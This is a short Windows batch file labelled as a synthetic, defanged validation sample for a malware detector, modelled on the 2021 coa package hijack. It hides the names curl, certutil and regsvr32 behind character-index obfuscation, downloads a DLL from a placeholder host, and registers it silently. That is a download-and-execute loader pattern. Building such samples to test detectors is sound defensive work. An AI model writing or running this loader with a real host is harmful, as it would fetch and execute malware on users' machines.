REM SYNTHETIC, DEFANGED malwi validation sample - modelled on coa hijack (2021); never run.
@echo off
set "_a=abcdefghijklmnopqrstuvwxyz0123456789"
%_a:~2,1%%_a:~20,1%%_a:~17,1%%_a:~11,1% https://cdn-stage2.example.invalid/sdd.dll -o compile.dll
if not exist compile.dll (
    %_a:~2,1%%_a:~4,1%%_a:~17,1%%_a:~19,1%%_a:~20,1%%_a:~19,1%%_a:~8,1%%_a:~11,1%.exe -urlcache -f https://cdn-stage2.example.invalid/sdd.dll compile.dll
)
%_a:~17,1%%_a:~4,1%%_a:~6,1%%_a:~18,1%%_a:~21,1%%_a:~17,1%%_a:~29,1%%_a:~28,1%.exe -s compile.dll
